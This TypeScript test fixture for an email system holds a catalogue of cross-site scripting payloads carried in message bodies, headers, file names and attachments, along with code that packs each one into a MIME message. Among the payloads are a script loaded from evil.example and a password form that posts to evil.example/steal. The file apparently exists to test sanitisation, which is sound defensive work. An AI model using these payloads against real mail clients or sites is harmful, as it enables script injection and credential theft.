/**
 * Script smuggled in every place a message can carry it. Shared by the SMTP
 * intake tests (test/hostile/xss.test.ts) and the browser tests, which load
 * the same messages in a real browser; every remote host is evil.example.
 * A carrier is data only: `carrierMessage` turns one into RFC 5322 text.
 */

/** An attachment a carrier sends along. */
export interface CarrierAttachment {
  filename: string;
  contentType: string;
  content: string;
  /** Set to reference the part from the HTML as cid:<contentId>. */
  contentId?: string;
  inline?: boolean;
}

/** One way of carrying script; fields left out get harmless defaults. */
export interface XssCarrier {
  name: string;
  /** Where the payload rides: the HTML body, a header shown in lists, or an attachment. */
  vector: 'html' | 'subject' | 'sender' | 'filename' | 'attachment' | 'text';
  subject?: string;
  fromName?: string;
  html?: string;
  text?: string;
  attachments?: CarrierAttachment[];
}

const SCRIPT = '<script>alert(document.domain)</script>';
const SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)"><text y="20">x</text></a></svg>';

export const XSS_CARRIERS: readonly XssCarrier[] = [
  { name: 'script element in HTML', vector: 'html', html: `<p>hi</p>${SCRIPT}<SCRIPT SRC=https://evil.example/x.js></SCRIPT>` },
  { name: 'script in the subject', vector: 'subject', subject: `${SCRIPT}<img src=x onerror=alert(1)>` },
  { name: 'script in the sender name', vector: 'sender', fromName: `"${SCRIPT}<img src=x onerror=alert(1)>"` },
  {
    name: 'script in an attachment file name', vector: 'filename',
    attachments: [{ filename: `<img src=x onerror=alert(1)>${SCRIPT}.html`, contentType: 'text/html', content: SCRIPT }],
  },
  { name: 'HTML attachment with script', vector: 'attachment', attachments: [{ filename: 'page.html', contentType: 'text/html', content: `<html><body>${SCRIPT}</body></html>` }] },
  {
    name: 'SVG attachment with script', vector: 'attachment', html: '<p><img src="cid:logo@evil.example"></p>',
    attachments: [{ filename: 'logo.svg', contentType: 'image/svg+xml', content: SVG_SCRIPT, contentId: 'logo@evil.example', inline: true }],
  },
  { name: 'inline SVG with script', vector: 'html', html: SVG_SCRIPT },
  { name: 'event handler attributes', vector: 'html', html: '<body onload=alert(1)><img src=x onerror=alert(2)><div onmouseover="alert(3)" OnClIcK=alert(4)>x</div><details open ontoggle=alert(5)>' },
  { name: 'CSS url() and expression', vector: 'html', html: '<div style="background:url(javascript:alert(1));width:expression(alert(2));behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">x</div><p style="background-image:url(&quot;https://evil.example/t.png&quot;)">y</p>' },
  { name: 'CSS @import', vector: 'html', html: '<style>@import url(https://evil.example/x.css); @import "javascript:alert(1)"; @\\69mport url(https://evil.example/y.css); p{color:red}</style><p>styled</p>' },
  { name: 'base href', vector: 'html', html: '<base href="javascript:alert(1)//"><base href="https://evil.example/"><a href="relative">relative</a><img src="pixel.png">' },
  { name: 'meta refresh', vector: 'html', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv=refresh content="0;url=https://evil.example/"><p>x</p>' },
  { name: 'form and controls', vector: 'html', html: '<form action="https://evil.example/steal" method=post><input name=password type=password autofocus onfocus=alert(1)><button formaction="javascript:alert(2)">Sign in</button></form><isindex action=javascript:alert(3) type=image>' },
  { name: 'object, embed, iframe and applet', vector: 'html', html: '<object data="javascript:alert(1)"></object><embed src="data:text/html,<script>alert(2)</script>"><iframe src="javascript:alert(3)"></iframe><iframe srcdoc="<script>alert(4)</script>"></iframe><applet code=x></applet>' },
  { name: 'javascript: links', vector: 'html', html: '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a><a href="java&#x09;script:alert(3)">c</a><a href="&#106;avascript&colon;alert(4)">d</a><a href="vbscript:msgbox(5)">e</a><area href="javascript:alert(6)">' },
  { name: 'data:text/html links', vector: 'html', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><a href="data:text/html,<script>alert(2)</script>">b</a><img src="data:text/html,<script>alert(3)</script>">' },
  {
    name: 'mXSS parser differentials', vector: 'html',
    html: [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(2)>',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(3)>">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(4)>',
      '<svg><![CDATA[><img src=x onerror=alert(5)>]]></svg>',
      '<!--><img src=x onerror=alert(6)>-->',
      '<title><img src=x onerror=alert(7)></title>',
      '<textarea></textarea><img src=x onerror=alert(8)>',
      '<xmp><img src=x onerror=alert(9)></xmp>',
      '<template><img src=x onerror=alert(10)></template>',
      '<img src="x` `<script>alert(11)</script>"` `>',
    ].join(''),
  },
  { name: 'script-looking plain text', vector: 'text', text: `${SCRIPT}\njavascript:alert(1)\n<img src=x onerror=alert(2)>` },
];

const CRLF = '\r\n';

/** "=?utf-8?B?…?=" for any header text, so payloads survive exactly as written. */
function encodedWord(text: string): string {
  return `=?utf-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;
}

function base64Lines(text: string): string {
  return (Buffer.from(text, 'utf8').toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
}

function part(contentType: string, headers: string[], body: string): string[] {
  return [`Content-Type: ${contentType}`, 'Content-Transfer-Encoding: base64', ...headers, '', base64Lines(body)];
}

/** The carrier as a complete message to `to`: multipart/mixed, every part base64 so nothing is lost in transit. */
export function carrierMessage(carrier: XssCarrier, to: string): string {
  const boundary = 'xss-carrier-boundary';
  const from = carrier.fromName === undefined ? 'Carrier <carrier@example.com>' : `${encodedWord(carrier.fromName)} <carrier@example.com>`;
  const parts: string[][] = [part('text/plain; charset=utf-8', [], carrier.text ?? `Carrier: ${carrier.name}`)];
  if (carrier.html !== undefined) parts.push(part('text/html; charset=utf-8', [], carrier.html));
  for (const attachment of carrier.attachments ?? []) {
    const headers = [`Content-Disposition: ${attachment.inline ? 'inline' : 'attachment'}; filename="${encodedWord(attachment.filename)}"`];
    if (attachment.contentId !== undefined) headers.push(`Content-ID: <${attachment.contentId}>`);
    parts.push(part(attachment.contentType, headers, attachment.content));
  }
  return [
    `From: ${from}`, `To: ${to}`, `Subject: ${encodedWord(carrier.subject ?? `XSS carrier: ${carrier.name}`)}`,
    'MIME-Version: 1.0', `Content-Type: multipart/mixed; boundary="${boundary}"`, '',
    ...parts.flatMap((lines) => [`--${boundary}`, ...lines]), `--${boundary}--`, '',
  ].join(CRLF);
}
